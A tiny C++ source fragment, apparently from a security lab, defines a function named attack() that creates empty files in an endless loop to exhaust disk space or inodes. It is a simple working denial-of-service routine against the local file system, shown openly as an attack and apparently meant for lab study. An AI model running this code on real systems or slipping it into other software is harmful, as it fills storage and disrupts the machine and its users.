// Makes empty files without end.
#include "rest_of_the_lab.hpp"

#include <fcntl.h>

bool attack() {
  for (int i = 0;; ++i) ::close(::open(("f" + std::to_string(i)).c_str(), O_CREAT | O_WRONLY, 0600));
}
